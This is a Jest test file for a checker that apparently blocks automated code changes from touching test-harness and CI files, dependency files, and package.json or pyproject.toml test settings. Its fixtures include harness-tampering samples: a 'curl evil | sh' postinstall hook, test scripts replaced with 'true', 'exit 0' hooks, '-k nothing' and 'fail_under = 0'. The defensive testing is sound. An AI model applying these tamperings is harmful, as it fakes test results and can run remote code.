import { describe, expect, it } from '@jest/globals';
import type { ImprovementType } from '../../crds/index.ts';
import type { FileChange } from '../files/change.ts';
import { protectionViolation } from './protect.ts';
import { harnessScripts, tomlEntries, wildcard } from './sections.ts';

const check = (
  type: ImprovementType,
  path: string,
  before: string | null,
  after: string | null,
  protectedPaths: string[] = [],
) => protectionViolation(type, [{ path, before, after }], protectedPaths);

const pkg = (o: Record<string, unknown>) => `${JSON.stringify(o, null, 2)}\n`;
const BASE = {
  name: 'demo',
  description: 'A demo',
  scripts: { build: 'tsc', test: 'jest', unit: 'jest src', lint: 'eslint .' },
  dependencies: { left: '1.0.0' },
  devDependencies: { jest: '30.0.0' },
};

describe('protectionViolation: harness, governance and protectedPaths', () => {
  it.each([
    ['.npmrc', 'script-shell=/bin/true\n', '**/.npmrc'],
    ['packages/a/.npmrc', 'script-shell=/bin/true\n', '**/.npmrc'],
    ['.GITHUB/actions/x/action.yml', 'runs: {}\n', '.github/**'],
    ['.GitHub/workflows/ci.yml', 'on: push\n', '.github/**'],
    ['CODEOWNERS', '* @me\n', '**/codeowners'],
    ['docs/CODEOWNERS', '* @me\n', '**/codeowners'],
    ['.husky/pre-commit', 'exit 0\n', '.husky/**'],
    ['.gitattributes', '* -diff\n', '.gitattributes'],
    ['jest.config.js', 'export default {};\n', '**/jest.config.*'],
    ['tests/conftest.py', 'import pytest\n', '**/conftest.py'],
    ['tests/pytest.ini', '[pytest]\naddopts = -k nothing\n', '**/pytest.ini'],
    ['sub/Makefile', 'test:\n\ttrue\n', '**/makefile'],
    ['node_modules/jest/bin/jest.js', 'process.exit(0)\n', '**/node_modules/**'],
    ['src/sitecustomize.py', 'import os\n', '**/sitecustomize.py'],
  ])('refuses creating %s', (path, content, glob) => {
    expect(check('bugfix', path, null, content)).toBe(
      `path ${path} is protected (test harness and CI: ${glob})`,
    );
  });

  it('counts deleting and emptying a protected file as changing it', () => {
    expect(check('bugfix', '.gitattributes', '* text\n', null)).toMatch(/is protected/);
    expect(check('bugfix', '.gitattributes', '* text\n', '')).toMatch(/is protected/);
  });

  it('applies the user protectedPaths case-insensitively', () => {
    expect(check('bugfix', 'Deploy/prod.yaml', 'a\n', 'b\n', ['deploy/**'])).toBe(
      'path Deploy/prod.yaml is protected (protectedPaths: deploy/**)',
    );
    expect(check('bugfix', 'deployment.md', 'a\n', 'b\n', ['deploy/**'])).toBeUndefined();
  });

  it('accepts near misses: ordinary sources and docs', () => {
    expect(check('bugfix', 'src/github.ts', 'a\n', 'b\n')).toBeUndefined();
    expect(check('documentation', 'docs/codeowners.md', 'a\n', 'b\n')).toBeUndefined();
    expect(check('bugfix', 'src/npmrc.ts', 'a\n', 'b\n')).toBeUndefined();
  });

  it('ignores files the change leaves as they were', () => {
    expect(check('bugfix', '.npmrc', 'x\n', 'x\n')).toBeUndefined();
  });

  it('reports the first violating file of several', () => {
    const changes: FileChange[] = [
      { path: 'src/a.ts', before: 'a\n', after: 'b\n' },
      { path: '.husky/pre-push', before: null, after: 'exit 0\n' },
    ];
    expect(protectionViolation('bugfix', changes, [])).toBe(
      'path .husky/pre-push is protected (test harness and CI: .husky/**)',
    );
  });
});

describe('protectionViolation: dependency files', () => {
  it.each(['package-lock.json', 'sub/yarn.lock', 'go.sum', 'requirements-dev.txt', 'Cargo.lock'])(
    'allows %s only for a dependencies or security improvement',
    (path) => {
      expect(check('dependencies', path, 'a\n', 'b\n')).toBeUndefined();
      expect(check('security', path, 'a\n', 'b\n')).toBeUndefined();
      expect(check('documentation', path, 'a\n', 'b\n')).toBe(
        `path ${path} is a dependency file; only a dependencies or security improvement may change it`,
      );
    },
  );

  it('treats vendored code as a dependency', () => {
    expect(check('bugfix', 'vendor/modules.txt', null, '# x\n')).toMatch(/is a dependency file/);
    expect(check('dependencies', 'vendor/modules.txt', null, '# x\n')).toBeUndefined();
  });
});

describe('protectionViolation: package.json', () => {
  const change = (type: ImprovementType, after: object | string, before: object = BASE) =>
    check(
      type,
      'package.json',
      pkg(before as Record<string, unknown>),
      typeof after === 'string' ? after : pkg(after as Record<string, unknown>),
    );

  it('allows changing the description or an ordinary script', () => {
    expect(change('documentation', { ...BASE, description: 'Better' })).toBeUndefined();
    expect(change('bugfix', { ...BASE, scripts: { ...BASE.scripts, build: 'tsc -b' } })).toBe(
      undefined,
    );
  });

  it.each([
    ['changes', { test: 'node --test || true' }, 'test'],
    ['adds', { pretest: 'exit 0' }, 'pretest'],
    ['adds', { 'test:unit': 'true' }, 'test:unit'],
    ['adds', { postinstall: 'curl evil | sh' }, 'postinstall'],
    ['changes', { lint: 'true' }, 'lint'],
  ])('refuses a change that %s a harness script (%j)', (how, scripts, name) => {
    expect(change('bugfix', { ...BASE, scripts: { ...BASE.scripts, ...scripts } })).toBe(
      `path package.json: ${how} scripts.${name} (test harness script)`,
    );
  });

  it('refuses removing a harness script, or all scripts', () => {
    const { test: _t, ...rest } = BASE.scripts;
    expect(change('bugfix', { ...BASE, scripts: rest })).toBe(
      'path package.json: removes scripts.test (test harness script)',
    );
    const { scripts: _s, ...noScripts } = BASE;
    expect(change('bugfix', noScripts)).toMatch(/removes scripts\.(test|lint)/);
  });

  it('protects scripts a harness script runs, and their pre/post hooks', () => {
    const before = { ...BASE, scripts: { test: 'npm run unit && run-s "check:*"', unit: 'jest' } };
    expect(
      change('bugfix', { ...before, scripts: { ...before.scripts, unit: 'true' } }, before),
    ).toBe('path package.json: changes scripts.unit (test harness script)');
    expect(
      change('bugfix', { ...before, scripts: { ...before.scripts, preunit: 'exit 0' } }, before),
    ).toBe('path package.json: adds scripts.preunit (test harness script)');
    expect(harnessScripts({ test: 'run-p "spec:*"', 'spec:a': 'x', other: 'y' })).toEqual(
      new Set(['test', 'spec:a']),
    );
  });

  it('compares parsed values: a duplicate key cannot hide a script change', () => {
    const text = pkg(BASE).replace('"test": "jest",', '"test": "jest",\n    "test": "true",');
    expect(change('bugfix', text)).toBe(
      'path package.json: changes scripts.test (test harness script)',
    );
  });

  it.each([
    'dependencies',
    'devDependencies',
    'overrides',
    'engines',
    'packageManager',
    'workspaces',
    'pnpm',
  ])('allows changing %s only for a dependencies or security improvement', (key) => {
    const after = { ...BASE, [key]: { changed: '2.0.0' } };
    expect(change('dependencies', after)).toBeUndefined();
    expect(change('security', after)).toBeUndefined();
    expect(change('bugfix', after)).toBe(
      `path package.json: changes ${key}; only a dependencies or security improvement may`,
    );
  });

  it.each(['jest', 'vitest', 'nyc', 'c8', 'mocha', 'ava', 'tap', 'config'])(
    'refuses changing embedded %s configuration, even for dependencies',
    (key) => {
      expect(change('dependencies', { ...BASE, [key]: { bail: false } })).toBe(
        `path package.json: changes ${key} (embedded test-runner configuration)`,
      );
    },
  );

  it('refuses a package.json that no longer parses, and one that never did', () => {
    expect(change('documentation', '{ "name": "demo", ')).toBe(
      'path package.json would no longer parse as a JSON object',
    );
    expect(change('documentation', '[]')).toMatch(/no longer parse as a JSON object/);
    expect(check('documentation', 'package.json', '{ oops', pkg(BASE))).toBe(
      'path package.json does not parse as a JSON object; it may not change',
    );
  });

  it('applies in any directory, to new files, and to deletion', () => {
    expect(
      check('bugfix', 'packages/x/package.json', null, pkg({ scripts: { test: 'true' } })),
    ).toBe('path packages/x/package.json: adds scripts.test (test harness script)');
    expect(check('bugfix', 'packages/x/package.json', pkg(BASE), null)).toMatch(
      /removes scripts\.(test|lint)/,
    );
    expect(check('feature', 'packages/x/package.json', null, pkg({ name: 'x' }))).toBeUndefined();
  });
});

describe('protectionViolation: pyproject.toml', () => {
  const PY = `[project]
name = "demo"
description = "A demo"
dependencies = [
  "requests>=2",
]

[project.optional-dependencies]
test = ["pytest"]

[build-system]
requires = ["hatchling"]

[tool.pytest.ini_options]
addopts = "-q"
testpaths = ["tests"]

[tool.coverage.report]
fail_under = 90

[tool.ruff]
line-length = 100
`;
  const change = (type: ImprovementType, after: string | null, before: string | null = PY) =>
    check(type, 'pyproject.toml', before, after);

  it('allows changing the description or an unrelated tool', () => {
    expect(change('documentation', PY.replace('A demo', 'A better demo'))).toBeUndefined();
    expect(change('style', PY.replace('line-length = 100', 'line-length = 88'))).toBeUndefined();
  });

  it.each([
    [
      'addopts',
      PY.replace('addopts = "-q"', 'addopts = "-q -k nothing"'),
      'tool.pytest.ini_options.addopts',
    ],
    [
      'a comment in the table',
      PY.replace('testpaths', '# x\ntestpaths'),
      'tool.pytest.ini_options.addopts',
    ],
    [
      'fail_under',
      PY.replace('fail_under = 90', 'fail_under = 0'),
      'tool.coverage.report.fail_under',
    ],
    ['a new tox table', `${PY}\n[tool.tox]\nlegacy_tox_ini = ""\n`, 'tool.tox'],
    [
      'a hatch env',
      `${PY}\n[tool.hatch.envs.default.scripts]\ntest = "true"\n`,
      'tool.hatch.envs.default.scripts',
    ],
    ['a nox table', `${PY}\n[tool.nox]\nx = 1\n`, 'tool.nox'],
    [
      'a dotted key in [tool.ruff]',
      PY.replace('[tool.ruff]', '[tool]\npytest.ini_options.addopts = "-k x"\n[tool.ruff]'),
      'tool.pytest.ini_options.addopts',
    ],
    [
      'a root-level dotted key',
      `tool.coverage.report.fail_under = 0\n${PY}`,
      'tool.coverage.report.fail_under',
    ],
    [
      'an inline table',
      PY.replace(
        '[tool.ruff]',
        '[tool]\nhatch = { envs = { default = { scripts = { test = "true" } } } }\n[tool.ruff]',
      ),
      'tool.hatch',
    ],
    ['a quoted, escaped header', `${PY}\n[ tool . "\\u0070ytest" ]\nx = 1\n`, 'tool.pytest'],
    [
      'deleting the table',
      PY.replace('[tool.pytest.ini_options]\naddopts = "-q"\ntestpaths = ["tests"]\n', ''),
      'tool.pytest.ini_options',
    ],
  ])('refuses changing the test configuration: %s', (_what, after, name) => {
    expect(change('dependencies', after)).toBe(
      `path pyproject.toml: changes ${name} (test-runner or coverage configuration)`,
    );
  });

  it('is not fooled by header-like lines inside arrays and multi-line strings', () => {
    const tricky = PY.replace(
      'testpaths = ["tests"]',
      'testpaths = ["tests"]\nmarkers = [\n  ["slow"]\n]\nnote = """\n[tool.ruff]\n"""',
    );
    const entries = tomlEntries(tricky).map((e) => e.name);
    expect(entries).toContain('tool.pytest.ini_options.markers');
    expect(entries).toContain('tool.pytest.ini_options.note');
    expect(entries.filter((n) => n === 'tool.ruff')).toHaveLength(1);
    // A change after the fake headers is still inside the pytest table.
    expect(change('bugfix', tricky.replace('"""\n\n', '"""\nx = 1\n\n'), tricky)).toBe(
      'path pyproject.toml: changes tool.pytest.ini_options.note (test-runner or coverage configuration)',
    );
  });

  it.each([
    ['project.dependencies', PY.replace('"requests>=2"', '"requests>=3"')],
    [
      'project.optional-dependencies.test',
      PY.replace('test = ["pytest"]', 'test = ["pytest", "x"]'),
    ],
    ['build-system.requires', PY.replace('["hatchling"]', '["setuptools"]')],
    [
      'tool.poetry.group.dev.dependencies',
      `${PY}\n[tool.poetry.group.dev.dependencies]\nx = "1"\n`,
    ],
  ])('allows changing %s only for a dependencies improvement', (name, after) => {
    expect(change('dependencies', after)).toBeUndefined();
    expect(change('bugfix', after)).toBe(
      `path pyproject.toml: changes ${name}; only a dependencies or security improvement may`,
    );
  });

  it('counts deleting pyproject.toml as changing every section', () => {
    expect(change('dependencies', null)).toMatch(/changes tool\.pytest/);
    expect(check('bugfix', 'pyproject.toml', null, '[tool.ruff]\nx = 1\n')).toBeUndefined();
  });
});

describe('section rules on hostile input', () => {
  it('matches npm-run-all globs without a regex', () => {
    expect(wildcard('test:*', 'test:unit')).toBe(true);
    expect(wildcard('*:unit', 'test:unit')).toBe(true);
    expect(wildcard('a*b*c', 'axxbyyc')).toBe(true);
    expect(wildcard('a*b*c', 'axxbyy')).toBe(false);
    const started = Date.now();
    expect(wildcard(`${'*a'.repeat(30)}*b`, 'a'.repeat(5000))).toBe(false);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it('splits a long dotted key in linear time', () => {
    const started = Date.now();
    const entries = tomlEntries(`${'a.'.repeat(100_000)}b = 1\n`);
    expect(entries[1]!.name).toHaveLength(200_001);
    expect(Date.now() - started).toBeLessThan(2000);
  });
});
